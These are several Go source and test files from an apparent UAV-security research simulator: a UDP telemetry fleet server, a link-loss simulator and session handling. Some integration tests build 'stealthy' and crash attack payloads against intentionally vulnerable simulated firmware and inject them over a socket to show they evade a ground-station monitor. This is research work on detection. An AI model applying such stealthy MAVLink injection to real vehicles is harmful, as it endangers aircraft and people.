		if err != nil || f.Vehicle(h.SysID) == nil {
			if errors.Is(err, ErrChecksum) {
				f.corruptDatagrams.Add(1)
			}
			f.badDatagrams.Add(1)
			continue
		}
		// Chaos uplink faults strike before the datagram reaches the
		// session layer: a partitioned window swallows it whole, and a
		// corrupted one fails the receiver checksum (modeled post-decode
		// because demultiplexing needs the header).
		if f.cfg.Chaos.Partitioned(chaos.Up, h.SysID, h.Seq) {
			f.chaosPartitioned.Add(1)
			continue
		}
		if _, hit := f.cfg.Chaos.Corrupt(chaos.Up, h.SysID, h.Seq); hit {
			f.chaosCorrupted.Add(1)
			f.corruptDatagrams.Add(1)
			continue
		}
		now := time.Now()
		sess, existed := f.sessions.lookup(addr, h.SysID, now)
		if sess == nil {
			continue // table full; rejection counted by the table
		}
		sess.touch(now)
		if !existed && h.Type == PacketBye {
			f.sessions.remove(sess)
			continue
		}

		switch h.Type {
		case PacketBye:
			f.sessions.remove(sess)
		case PacketHello:
			// Session creation/refresh, plus epoch bookkeeping: a new
			// epoch means the peer rebuilt its side (restart or link
			// declared dead) and uplink numbering starts over.
			sess.rehello(helloEpoch(payload))
		case PacketData:
			sess.trackRx(h.Seq)
			sess.stats.DatagramsIn.Add(1)
			sess.stats.BytesIn.Add(uint64(n))
			if len(payload) == 0 {
				break
			}
			if f.cfg.Sim.Active() {
				fate := f.cfg.Sim.Fate(upLink(h.SysID), h.Seq)
				if fate.Drop {
					sess.stats.SimDropped.Add(1)
					break
				}
			}
			sess.parser.feed(payload, &sess.stats)
			f.vehicles[h.SysID-1].Sys().SendToUAV(payload)
		default:
			f.badDatagrams.Add(1)
		}
	}
}

// reapLoop expires idle sessions on the wall clock.
func (f *Fleet) reapLoop() {
	defer f.wg.Done()
	interval := f.cfg.SessionTimeout / 4
	if interval < 10*time.Millisecond {
		interval = 10 * time.Millisecond
	}
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	for {
		select {
		case <-f.stop:
			return
		case now := <-ticker.C:
			f.sessions.expire(now, f.cfg.SessionTimeout)
		}
	}
}

// ExpiredSessions returns how many sessions the reaper has dropped.
func (f *Fleet) ExpiredSessions() uint64 { return f.sessions.expired.Load() }

// MetricsText renders fleet, per-vehicle and per-link counters as a
// plain-text block (one "name value" pair per line, sorted), the
// format served by cmd/mavr-fleetd's -metrics endpoint.
func (f *Fleet) MetricsText() string {
	restarts := 0
	for _, v := range f.vehicles {
		restarts += int(v.restarts.Load())
	}
	var queueDropped uint64
	if f.send != nil {
		queueDropped = f.send.dropped.Load()
	}
	lines := []string{
		fmt.Sprintf("fleet.vehicles %d", len(f.vehicles)),
		fmt.Sprintf("fleet.degraded %d", f.DegradedVehicles()),
		fmt.Sprintf("fleet.restarts %d", restarts),
		fmt.Sprintf("fleet.sessions %d", f.sessions.count()),
		fmt.Sprintf("fleet.sessions_expired %d", f.sessions.expired.Load()),
		fmt.Sprintf("fleet.sessions_rejected %d", f.sessions.rejected.Load()),
		fmt.Sprintf("fleet.bad_datagrams %d", f.badDatagrams.Load()),
		fmt.Sprintf("fleet.corrupt_datagrams %d", f.corruptDatagrams.Load()),
		fmt.Sprintf("fleet.chaos_board_faults %d", f.chaosBoardFaults.Load()),
		fmt.Sprintf("fleet.chaos_partitioned %d", f.chaosPartitioned.Load()),
		fmt.Sprintf("fleet.chaos_corrupted %d", f.chaosCorrupted.Load()),
		fmt.Sprintf("fleet.send_queue_dropped %d", queueDropped),
		fmt.Sprintf("fleet.armory_provisioned %d", f.armoryProvisioned.Load()),
		fmt.Sprintf("fleet.armory_fallbacks %d", f.armoryFallbacks.Load()),
		fmt.Sprintf("fleet.uptime_ms %d", time.Since(f.started).Milliseconds()),
	}
	for _, v := range f.vehicles {
		s := v.Snapshot()
		p := fmt.Sprintf("vehicle.%d", v.SysID)
		lines = append(lines,
			fmt.Sprintf("%s.simtime_ms %d", p, s.SimTime.Milliseconds()),
			fmt.Sprintf("%s.ticks %d", p, s.Ticks),
			fmt.Sprintf("%s.running %d", p, b2i(s.Running)),
			fmt.Sprintf("%s.gyrocfg %d", p, s.GyroCfg),
			fmt.Sprintf("%s.reflashes %d", p, s.Reflashes),
			fmt.Sprintf("%s.restarts %d", p, s.Restarts),
			fmt.Sprintf("%s.degraded %d", p, b2i(s.Degraded)),
		)
	}
	for _, sess := range f.sessions.all() {
		prefix := fmt.Sprintf("link.%s", sess.key)
		lines = append(lines, sess.stats.Snapshot().metricsLines(prefix)...)
	}
	return formatMetrics(lines)
}

func b2i(b bool) int {
	if b {
		return 1
	}
	return 0
}
