//mavr:wallclock — session liveness (touch/idleSince/expire) is
// wall-clock by design; these tests drive it with real timestamps.

package netlink

import (
	"net"
	"testing"
	"time"
)

func testAddr(port int) *net.UDPAddr {
	return &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}
}

// A hello carrying a new epoch resets uplink sequence tracking: the
// peer restarted its numbering, and stale expectations must not charge
// the fresh stream with phantom gaps.
func TestSessionRehelloResetsTracking(t *testing.T) {
	tab := newSessionTable(0)
	s, existed := tab.lookup(testAddr(9001), 1, time.Now())
	if existed || s == nil {
		t.Fatalf("fresh lookup: sess=%v existed=%v", s, existed)
	}
	if s.rehello(0) {
		t.Error("first hello counted as a re-hello")
	}
	s.trackRx(0)
	s.trackRx(1)

	if !s.rehello(1) {
		t.Fatal("epoch change not treated as a re-hello")
	}
	s.trackRx(0) // the new epoch's numbering restarts at zero
	if got := s.stats.SeqGaps.Load(); got != 0 {
		t.Errorf("restarted numbering charged %d gaps", got)
	}
	if got := s.stats.Rehellos.Load(); got != 1 {
		t.Errorf("rehellos = %d, want 1", got)
	}

	// A same-epoch keepalive hello is a refresh, not a reset.
	s.trackRx(1)
	if s.rehello(1) {
		t.Error("same-epoch hello treated as a re-hello")
	}
	if s.rxNext != 2 {
		t.Errorf("keepalive hello reset rx tracking (rxNext=%d)", s.rxNext)
	}
}

// Epoch comparison is change-based, so the counter wrapping back
// through zero still triggers a clean reset.
func TestSessionEpochWraparound(t *testing.T) {
	s := &session{}
	s.rehello(^uint32(0))
	s.trackRx(7)
	if !s.rehello(0) {
		t.Fatal("wraparound to epoch 0 not treated as a re-hello")
	}
	s.trackRx(0)
	if got := s.stats.SeqGaps.Load(); got != 0 {
		t.Errorf("wraparound reset charged %d gaps", got)
	}
}

func TestHelloEpochParsing(t *testing.T) {
	if got := helloEpoch(nil); got != 0 {
		t.Errorf("legacy hello epoch = %d", got)
	}
	if got := helloEpoch([]byte{0, 0, 1, 0}); got != 256 {
		t.Errorf("epoch = %d, want 256", got)
	}
	if got := helloEpoch([]byte{0xDE, 0xAD, 0xBE, 0xEF, 0x99}); got != 0xDEADBEEF {
		t.Errorf("epoch with trailing bytes = %#x", got)
	}
}

// The session table sheds joins beyond its cap instead of growing
// without bound, and frees capacity when sessions leave.
func TestSessionTableCap(t *testing.T) {
	tab := newSessionTable(2)
	now := time.Now()
	a, _ := tab.lookup(testAddr(9001), 1, now)
	b, _ := tab.lookup(testAddr(9002), 1, now)
	if a == nil || b == nil {
		t.Fatal("in-cap joins rejected")
	}
	if s, _ := tab.lookup(testAddr(9003), 1, now); s != nil {
		t.Fatal("join beyond cap admitted")
	}
	if got := tab.rejected.Load(); got != 1 {
		t.Errorf("rejected = %d, want 1", got)
	}
	// An existing session is always found, even at the cap.
	if s, existed := tab.lookup(testAddr(9001), 1, now); s != a || !existed {
		t.Error("existing session not found at cap")
	}
	tab.remove(a)
	if s, _ := tab.lookup(testAddr(9003), 1, now); s == nil {
		t.Error("join rejected after capacity freed")
	}
}

// Several stations may watch one vehicle: a duplicate-sysid join from
// a second address fans out alongside the first instead of stealing
// the session, while the same (addr, sysid) pair maps to one session.
func TestDuplicateSysIDJoin(t *testing.T) {
	tab := newSessionTable(0)
	now := time.Now()
	a, _ := tab.lookup(testAddr(9001), 1, now)
	b, _ := tab.lookup(testAddr(9002), 1, now)
	if a == b {
		t.Fatal("distinct stations shared a session")
	}
	if got := len(tab.subscribers(1)); got != 2 {
		t.Fatalf("subscribers = %d, want 2", got)
	}
	if c, existed := tab.lookup(testAddr(9001), 1, now); c != a || !existed {
		t.Error("same (addr, sysid) did not map to the same session")
	}
}

// The expiry-vs-re-hello race: a session expiring just as its peer
// re-hellos yields a fresh session (the datagram after the sweep
// recreates it), never a lookup on freed state.
func TestSessionExpiryRehelloRace(t *testing.T) {
	tab := newSessionTable(0)
	start := time.Now()
	s, _ := tab.lookup(testAddr(9001), 1, start)
	s.trackRx(41)
	if n := tab.expire(start.Add(time.Second), 500*time.Millisecond); n != 1 {
		t.Fatalf("expire dropped %d sessions, want 1", n)
	}
	if got := tab.count(); got != 0 {
		t.Fatalf("count = %d after expiry", got)
	}
	// The re-hello arriving after the sweep builds a fresh session with
	// clean tracking.
	s2, existed := tab.lookup(testAddr(9001), 1, start.Add(time.Second))
	if existed {
		t.Fatal("expired session resurrected instead of recreated")
	}
	if s2 == s {
		t.Fatal("lookup returned the expired session object")
	}
	if s2.rxInit {
		t.Error("fresh session inherited rx tracking")
	}
	if tab.expired.Load() != 1 {
		t.Errorf("expired counter = %d", tab.expired.Load())
	}
}
