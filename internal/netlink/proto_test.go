package netlink

import (
	"bytes"
	"errors"
	"testing"
	"time"

	"mavr/internal/mavlink"
)

func mustHeartbeatWire(t testing.TB) []byte {
	t.Helper()
	hb := &mavlink.Heartbeat{Type: 1, Autopilot: 3, SystemStatus: mavlink.StateActive, MavlinkVersion: 3}
	wire, err := (&mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, SysID: 1, CompID: 1, Payload: hb.Marshal()}).Marshal()
	if err != nil {
		t.Fatal(err)
	}
	return wire
}

func TestHeaderRoundTrip(t *testing.T) {
	h := Header{Type: PacketData, SysID: 42, Seq: 0xDEADBEEF, SimTime: 1500 * time.Millisecond}
	payload := []byte{1, 2, 3, 4}
	pkt := Encode(h, payload)
	if len(pkt) != HeaderSize+len(payload) {
		t.Fatalf("datagram length %d", len(pkt))
	}
	got, gotPayload, err := Decode(pkt)
	if err != nil {
		t.Fatal(err)
	}
	if got != h {
		t.Errorf("header round trip: %+v != %+v", got, h)
	}
	if !bytes.Equal(gotPayload, payload) {
		t.Errorf("payload round trip: %x", gotPayload)
	}
}

func TestDecodeRejectsMalformed(t *testing.T) {
	if _, _, err := Decode([]byte{magic0, magic1}); !errors.Is(err, ErrShortDatagram) {
		t.Errorf("short datagram: %v", err)
	}
	pkt := Encode(Header{Type: PacketHello, SysID: 1}, nil)
	pkt[0] = 'X'
	if _, _, err := Decode(pkt); !errors.Is(err, ErrBadProtoMagic) {
		t.Errorf("bad magic: %v", err)
	}
	pkt[0] = magic0
	pkt[2] = 99
	if _, _, err := Decode(pkt); !errors.Is(err, ErrBadVersion) {
		t.Errorf("bad version: %v", err)
	}
}

// Any single-byte flip anywhere in a datagram — header or payload —
// must fail checksum verification: corruption becomes whole-datagram
// loss, never a garbled record reaching the monitor.
func TestDecodeRejectsCorruption(t *testing.T) {
	pkt := Encode(Header{Type: PacketData, SysID: 3, Seq: 9, SimTime: time.Second},
		[]byte{0xA5, 7, 10, 3, 0xFE, 0x21})
	for i := 3; i < len(pkt); i++ {
		bad := append([]byte(nil), pkt...)
		bad[i] ^= 0x40
		if _, _, err := Decode(bad); err == nil {
			t.Errorf("flip at offset %d went undetected", i)
		}
	}
	if _, _, err := Decode(pkt); err != nil {
		t.Fatalf("pristine datagram rejected: %v", err)
	}
}

func TestSplitterSegmentsMixedStream(t *testing.T) {
	var s StreamSplitter
	pulse := []byte{0xA5, 7, 10, 3} // firmware.PulseMagic
	hbFrame := mustHeartbeatWire(t)
	stream := append(append(append([]byte{}, pulse...), hbFrame...), pulse...)
	stream = append(stream, 0xEE) // stray byte
	stream = append(stream, pulse[:2]...)

	// Feed one byte at a time: records must come out whole regardless
	// of chunking.
	var records [][]byte
	for _, b := range stream {
		records = append(records, s.Feed([]byte{b})...)
	}
	if len(records) != 4 {
		t.Fatalf("got %d records, want 4 (pulse, frame, pulse, garbage)", len(records))
	}
	if !bytes.Equal(records[0], pulse) || !bytes.Equal(records[2], pulse) {
		t.Error("pulse records mangled")
	}
	if !bytes.Equal(records[1], hbFrame) {
		t.Error("frame record mangled")
	}
	if !bytes.Equal(records[3], []byte{0xEE}) {
		t.Error("garbage byte not isolated")
	}
	if s.Pending() != 2 {
		t.Errorf("pending = %d, want the 2-byte partial pulse", s.Pending())
	}
	// Completing the partial pulse releases it.
	got := s.Feed(pulse[2:])
	if len(got) != 1 || !bytes.Equal(got[0], pulse) {
		t.Errorf("partial pulse not completed: %x", got)
	}
}

func TestPackRecordsRespectsLimit(t *testing.T) {
	records := [][]byte{
		make([]byte, 40), make([]byte, 40), make([]byte, 40),
		make([]byte, 200), // oversize record still ships alone
	}
	payloads := packRecords(records, 100)
	if len(payloads) != 3 {
		t.Fatalf("got %d payloads, want 3", len(payloads))
	}
	if len(payloads[0]) != 80 || len(payloads[1]) != 40 || len(payloads[2]) != 200 {
		t.Errorf("payload sizes: %d %d %d", len(payloads[0]), len(payloads[1]), len(payloads[2]))
	}
}
