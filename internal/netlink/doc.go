// Package netlink is the UDP telemetry fabric between simulated UAVs
// and ground stations: the network-facing realization of the paper's
// Fig. 3 attack vector, where a (possibly malicious) ground station
// talks MAVLink to the vehicle over a real link instead of an
// in-process byte shuttle.
//
// The layer has four parts:
//
//   - A tiny datagram protocol (proto.go): each UDP datagram carries a
//     17-byte header — vehicle system id, per-direction link sequence
//     number and the vehicle's simulated clock — followed by zero or
//     more complete telemetry records. Sessions are keyed by peer
//     address + system id; liveness is heartbeat-based (any datagram
//     refreshes the session, idle sessions expire).
//
//   - A record splitter (splitter.go): the vehicle's downlink is a byte
//     stream interleaving telemetry pulses and MAVLink frames. The
//     splitter segments it so datagrams are packed on record
//     boundaries; a lost datagram then loses whole records and the
//     ground station's stream parser never desynchronizes. Loss shows
//     up as pulse sequence gaps (gcs.Monitor.LinkGaps), not garbage.
//
//   - A deterministic link simulator (linksim.go): seeded drop,
//     duplicate and latency/reorder injection whose schedule is a pure
//     function of (seed, link name, datagram sequence). The schedule is
//     identical across runs, goroutine interleavings and worker counts,
//     so stealth-detection experiments over a lossy link stay
//     reproducible.
//
//   - A fleet server (fleet.go) and ground-station client (client.go):
//     Fleet hosts N independent board.System vehicles, each advanced by
//     its own goroutine at a configurable multiple of real time, and
//     serves any number of GCS clients over one UDP socket. Client
//     drives a gcs.Monitor (in link-loss-tolerant mode) from the
//     received record stream and can inject arbitrary — including
//     oversize attack — frames on the uplink.
//
// cmd/mavr-fleetd wraps Fleet as a daemon; cmd/mavr-attack -connect
// points the paper's attack generator at a fleetd socket.
package netlink
