//mavr:wallclock — these are real-UDP integration tests: socket
// deadlines and latency measurement legitimately read the wall clock.

package netlink

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"mavr/internal/attack"
	"mavr/internal/firmware"
)

var (
	imgOnce sync.Once
	imgVal  *firmware.Image
	imgErr  error
)

// testFirmware generates the vulnerable test application once; the
// image is read-only and shared by every vehicle in every test.
func testFirmware(t testing.TB) *firmware.Image {
	t.Helper()
	imgOnce.Do(func() {
		imgVal, imgErr = firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	})
	if imgErr != nil {
		t.Fatal(imgErr)
	}
	return imgVal
}

// waitSim blocks until every vehicle's sim clock reaches target.
func waitSim(t testing.TB, f *Fleet, target time.Duration, deadline time.Duration) {
	t.Helper()
	end := time.Now().Add(deadline)
	for {
		done := true
		for _, v := range f.Vehicles() {
			// A crash alone is survivable (the supervisor restarts the
			// board); only a vehicle parked as degraded is truly dead.
			if v.Degraded() {
				t.Fatalf("vehicle %d degraded: %v", v.SysID, v.Err())
			}
			if v.Snapshot().SimTime < target {
				done = false
			}
		}
		if done {
			return
		}
		if time.Now().After(end) {
			var lag []string
			for _, v := range f.Vehicles() {
				lag = append(lag, fmt.Sprintf("v%d=%v", v.SysID, v.Snapshot().SimTime))
			}
			t.Fatalf("fleet did not reach %v of sim time in %v: %s", target, deadline, strings.Join(lag, " "))
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// The loopback acceptance test: a fleet of 64 independent UAVs served
// over real UDP sockets, one GCS client per vehicle, everyone healthy
// after more than a simulated second of flight.
func TestFleetLoopback64(t *testing.T) {
	vehicles := 64
	simTarget := 1100 * time.Millisecond
	if testing.Short() {
		vehicles, simTarget = 8, 400*time.Millisecond
	}
	f, err := NewFleet(FleetConfig{
		Vehicles: vehicles,
		Firmware: testFirmware(t),
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	addr := f.Addr().String()
	clients := make([]*Client, vehicles)
	for i := range clients {
		c, err := DialClient(addr, ClientConfig{SysID: byte(i + 1)})
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		clients[i] = c
	}

	waitSim(t, f, simTarget, 8*time.Minute)
	if got := f.Sessions(); got != vehicles {
		t.Errorf("sessions = %d, want %d", got, vehicles)
	}
	// Let in-flight datagrams land before judging the monitors.
	time.Sleep(200 * time.Millisecond)

	for i, c := range clients {
		mon := c.Monitor()
		st := c.Stats()
		if st.DatagramsIn == 0 {
			t.Errorf("client %d received no datagrams", i+1)
			continue
		}
		if mon.Pulses < 100 {
			t.Errorf("client %d: only %d pulses over %v of flight", i+1, mon.Pulses, simTarget)
		}
		if mon.Heartbeats == 0 {
			t.Errorf("client %d: no heartbeats", i+1)
		}
		if mon.Garbage != 0 || mon.HeartbeatErrors != 0 {
			t.Errorf("client %d: garbage=%d hbErr=%d on a clean link", i+1, mon.Garbage, mon.HeartbeatErrors)
		}
		if mon.CompromiseDetected(250 * time.Millisecond) {
			t.Errorf("client %d: healthy vehicle flagged: gaps=%d/%d silence=%v",
				i+1, mon.SeqGaps, mon.LinkGaps, mon.MaxSilence)
		}
	}

	metrics := f.MetricsText()
	if !strings.Contains(metrics, fmt.Sprintf("fleet.vehicles %d", vehicles)) {
		t.Errorf("metrics missing vehicle count:\n%s", metrics[:200])
	}
}

// A deliberately lossy, jittery link: the tolerant monitor books the
// loss as link gaps and still reports the vehicle healthy — the
// distinction that keeps stealth verdicts meaningful over UDP.
func TestFleetLossyLinkStaysHealthy(t *testing.T) {
	f, err := NewFleet(FleetConfig{
		Vehicles: 1,
		Firmware: testFirmware(t),
		Sim: SimConfig{
			Seed:     1234,
			DropRate: 0.20,
			DupRate:  0.05,
			Latency:  time.Millisecond,
			Jitter:   4 * time.Millisecond,
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	c, err := DialClient(f.Addr().String(), ClientConfig{SysID: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	waitSim(t, f, 1100*time.Millisecond, 2*time.Minute)
	time.Sleep(250 * time.Millisecond) // let delayed datagrams drain

	sess := f.sessions.all()
	if len(sess) != 1 {
		t.Fatalf("%d sessions", len(sess))
	}
	st := sess[0].stats.Snapshot()
	if st.SimDropped == 0 {
		t.Errorf("20%% drop rate dropped nothing over %d datagrams", st.DatagramsOut+st.SimDropped)
	}
	mon := c.Monitor()
	cst := c.Stats()
	if mon.Pulses == 0 || mon.Heartbeats == 0 {
		t.Fatalf("no telemetry through the lossy link: pulses=%d hb=%d", mon.Pulses, mon.Heartbeats)
	}
	if mon.Garbage != 0 || mon.HeartbeatErrors != 0 {
		t.Errorf("record-aligned loss produced garbage=%d hbErr=%d", mon.Garbage, mon.HeartbeatErrors)
	}
	if mon.LinkGaps == 0 && cst.SeqGaps == 0 {
		t.Error("a 20%-loss link showed no gaps at all")
	}
	if mon.CompromiseDetected(300 * time.Millisecond) {
		t.Errorf("packet loss misread as compromise: seqGaps=%d linkGaps=%d silence=%v",
			mon.SeqGaps, mon.LinkGaps, mon.MaxSilence)
	}
}

// The paper's headline result, reproduced end to end over the network:
// a V2 stealthy attack injected through a real UDP socket corrupts the
// gyroscope configuration while the benign ground station — watching
// the same socket — sees nothing.
func TestStealthyAttackOverSocketEvadesMonitor(t *testing.T) {
	img := testFirmware(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x5A))
	if err != nil {
		t.Fatal(err)
	}

	f, err := NewFleet(FleetConfig{Vehicles: 1, Firmware: img})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	c, err := DialClient(f.Addr().String(), ClientConfig{SysID: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	// Established cruise before the injection.
	waitSim(t, f, 200*time.Millisecond, time.Minute)
	c.SendFrame(attack.Frame(payload))

	// Wait for the chain to land (watch the snapshot, not the board —
	// the driver goroutine owns it).
	v := f.Vehicle(1)
	end := time.Now().Add(time.Minute)
	for v.Snapshot().GyroCfg != 0x5A {
		if time.Now().After(end) {
			t.Fatalf("attack never landed: gyrocfg=0x%02X after %v of sim",
				v.Snapshot().GyroCfg, v.Snapshot().SimTime)
		}
		time.Sleep(10 * time.Millisecond)
	}
	landedAt := v.Snapshot().SimTime

	// Fly on: the stealthy chain must keep telemetry flowing.
	waitSim(t, f, landedAt+400*time.Millisecond, time.Minute)
	time.Sleep(100 * time.Millisecond)

	mon := c.Monitor()
	if mon.Pulses == 0 || mon.Heartbeats == 0 {
		t.Fatalf("no telemetry after the attack: pulses=%d hb=%d", mon.Pulses, mon.Heartbeats)
	}
	if mon.CompromiseDetected(250 * time.Millisecond) {
		t.Errorf("stealthy attack detected over the socket: garbage=%d seqGaps=%d hbErr=%d silence=%v",
			mon.Garbage, mon.SeqGaps, mon.HeartbeatErrors, mon.MaxSilence)
	}
	// The falsified sensor value propagates into telemetry (raw 10 + 0x5A).
	if mon.LastGyro != 10+0x5A {
		t.Errorf("reported gyro = %d, want %d", mon.LastGyro, 10+0x5A)
	}

	// The uplink counters saw the oversize frame (checksum over more
	// payload than the length byte admits) without blocking it.
	sess := f.sessions.all()
	if len(sess) == 1 && sess[0].stats.CRCRejects.Load() == 0 {
		t.Log("note: oversize attack frame did not register as a CRC reject")
	}

	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	// Fleet closed: direct board access is now allowed.
	if got := v.Sys().App.CPU.Data[firmware.AddrGyroCfg]; got != 0x5A {
		t.Fatalf("gyro config = 0x%02X after close", got)
	}
}

// The contrast case: a V1 (crash) attack over the socket kills the
// application; the ground station sees the vehicle go silent — in
// simulated time, via the fleet's time beacons — even though the UDP
// link itself keeps delivering datagrams.
func TestV1CrashOverSocketIsDetected(t *testing.T) {
	img := testFirmware(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV1(a, attack.GyroCfgWrite(0x5A))
	if err != nil {
		t.Fatal(err)
	}

	f, err := NewFleet(FleetConfig{Vehicles: 1, Firmware: img})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	c, err := DialClient(f.Addr().String(), ClientConfig{SysID: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	waitSim(t, f, 200*time.Millisecond, time.Minute)
	c.SendFrame(attack.Frame(payload))
	start := f.Vehicle(1).Snapshot().SimTime
	waitSim(t, f, start+900*time.Millisecond, time.Minute)
	time.Sleep(100 * time.Millisecond)

	mon := c.Monitor()
	if !mon.VehicleSilent(300 * time.Millisecond) {
		t.Errorf("crashed vehicle not reported silent: maxSilence=%v pulses=%d", mon.MaxSilence, mon.Pulses)
	}
	if !mon.CompromiseDetected(300 * time.Millisecond) {
		t.Error("V1 crash undetected over the socket")
	}
}

// Heartbeat-based session liveness: a station that stops talking is
// expired and stops consuming downlink fan-out.
func TestSessionExpiry(t *testing.T) {
	f, err := NewFleet(FleetConfig{
		Vehicles:       1,
		Firmware:       testFirmware(t),
		SessionTimeout: 150 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	c, err := DialClient(f.Addr().String(), ClientConfig{SysID: 1, Keepalive: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	end := time.Now().Add(5 * time.Second)
	for f.Sessions() != 1 {
		if time.Now().After(end) {
			t.Fatal("session never established")
		}
		time.Sleep(5 * time.Millisecond)
	}
	// No keepalives: the reaper must drop the session.
	for f.Sessions() != 0 {
		if time.Now().After(end) {
			t.Fatalf("session not expired (still %d live)", f.Sessions())
		}
		time.Sleep(10 * time.Millisecond)
	}
	if f.ExpiredSessions() == 0 {
		t.Error("expiry not counted")
	}

	// Any fresh uplink datagram re-establishes the session.
	c.SendRaw(nil)
	for f.Sessions() != 1 {
		if time.Now().After(end) {
			t.Fatal("session not re-established after expiry")
		}
		time.Sleep(5 * time.Millisecond)
	}
}
