package netlink

import "time"

// SimConfig describes the impairments of a simulated radio link. The
// zero value is a perfect link.
type SimConfig struct {
	// Seed selects the impairment schedule. Two links with the same
	// seed, link name and sequence numbers see the same schedule.
	Seed int64
	// DropRate is the datagram loss probability in [0, 1].
	DropRate float64
	// DupRate is the probability a datagram is delivered twice.
	DupRate float64
	// Latency delays every datagram by this base amount.
	Latency time.Duration
	// Jitter adds a uniform [0, Jitter) extra delay per datagram;
	// inverted delays between consecutive datagrams are what produce
	// reordering.
	Jitter time.Duration
}

// Active reports whether the simulator would alter traffic at all.
func (c SimConfig) Active() bool {
	return c.DropRate > 0 || c.DupRate > 0 || c.Latency > 0 || c.Jitter > 0
}

// Fate is the scheduled treatment of one datagram.
type Fate struct {
	// Drop discards the datagram entirely.
	Drop bool
	// Copies is the number of deliveries (1 normally, 2 when
	// duplicated); 0 when dropped.
	Copies int
	// Delay is the injected latency before (each) delivery.
	Delay time.Duration
}

// Fate returns the treatment of datagram seq on the named link. It is
// a pure function of (Seed, link, seq): no shared RNG state, so the
// schedule is reproducible regardless of how many goroutines or
// vehicles interleave their sends, across runs and worker counts.
// Link names identify a direction of a vehicle's radio (e.g.
// "v7/down"), deliberately excluding ephemeral peer ports.
func (c SimConfig) Fate(link string, seq uint32) Fate {
	if !c.Active() {
		return Fate{Copies: 1}
	}
	base := splitmix64(uint64(c.Seed)) ^ fnv64(link) ^ (uint64(seq) * 0x9E3779B97F4A7C15)
	if c.DropRate > 0 && unit(splitmix64(base+1)) < c.DropRate {
		return Fate{Drop: true}
	}
	f := Fate{Copies: 1}
	if c.DupRate > 0 && unit(splitmix64(base+2)) < c.DupRate {
		f.Copies = 2
	}
	f.Delay = c.Latency
	if c.Jitter > 0 {
		f.Delay += time.Duration(unit(splitmix64(base+3)) * float64(c.Jitter))
	}
	return f
}

// splitmix64 is the SplitMix64 finalizer: a cheap, well-distributed
// hash of the per-datagram key.
func splitmix64(x uint64) uint64 {
	x += 0x9E3779B97F4A7C15
	x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9
	x = (x ^ (x >> 27)) * 0x94D049BB133111EB
	return x ^ (x >> 31)
}

// fnv64 hashes the link name (FNV-1a).
func fnv64(s string) uint64 {
	h := uint64(0xcbf29ce484222325)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 0x100000001b3
	}
	return h
}

// unit maps a hash to [0, 1).
func unit(x uint64) float64 {
	return float64(x>>11) / (1 << 53)
}
