package netlink

import (
	"fmt"
	"net"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"mavr/internal/mavlink"
)

// session is one ground station's subscription to one vehicle, keyed
// by peer address + system id (the same station may watch several
// vehicles over one socket, and several stations may watch one
// vehicle).
type session struct {
	key   string
	addr  *net.UDPAddr
	sysID byte
	stats LinkStats

	// lastSeen is the wall time of the last datagram from the peer
	// (heartbeat-based liveness).
	lastSeen atomic.Int64

	// txSeq is the downlink sequence number; only the owning vehicle's
	// goroutine sends, so no further synchronization is needed.
	txSeq uint32

	// epoch is the session generation announced by the peer's hello
	// payload. A hello with a different epoch is a re-hello: the peer
	// restarted or declared the link dead and is rebuilding its side of
	// the session, so stale uplink sequence tracking must not charge the
	// new stream with phantom gaps. Written only by the read loop;
	// atomic so observers (tests, metrics) may read concurrently.
	epoch    atomic.Uint32
	epochSet atomic.Bool

	// Uplink sequence tracking, touched only by the read loop.
	rxInit bool
	rxNext uint32
	parser uplinkParser
}

func (s *session) touch(now time.Time) { s.lastSeen.Store(now.UnixNano()) }

func (s *session) idleSince(now time.Time) time.Duration {
	return now.Sub(time.Unix(0, s.lastSeen.Load()))
}

// rehello applies a hello's epoch. Any change — including wraparound
// back through zero — resets uplink sequence tracking and the parser,
// because an epoch change means the peer's numbering restarted. It
// reports whether this hello started a new epoch on an existing
// session.
func (s *session) rehello(epoch uint32) bool {
	if s.epochSet.Load() && s.epoch.Load() == epoch {
		return false
	}
	first := !s.epochSet.Load()
	s.epoch.Store(epoch)
	s.epochSet.Store(true)
	s.rxInit = false
	s.rxNext = 0
	s.parser = uplinkParser{}
	if first {
		return false
	}
	s.stats.Rehellos.Add(1)
	return true
}

// helloEpoch extracts the 4-byte big-endian epoch from a hello
// payload. Legacy hellos with no payload report epoch 0.
func helloEpoch(payload []byte) uint32 {
	if len(payload) < 4 {
		return 0
	}
	return uint32(payload[0])<<24 | uint32(payload[1])<<16 |
		uint32(payload[2])<<8 | uint32(payload[3])
}

// trackRx updates uplink sequence accounting for a received datagram.
func (s *session) trackRx(seq uint32) {
	if !s.rxInit {
		s.rxInit = true
		s.rxNext = seq + 1
		return
	}
	switch {
	case seq == s.rxNext:
		s.rxNext++
	case seq > s.rxNext:
		s.stats.SeqGaps.Add(uint64(seq - s.rxNext))
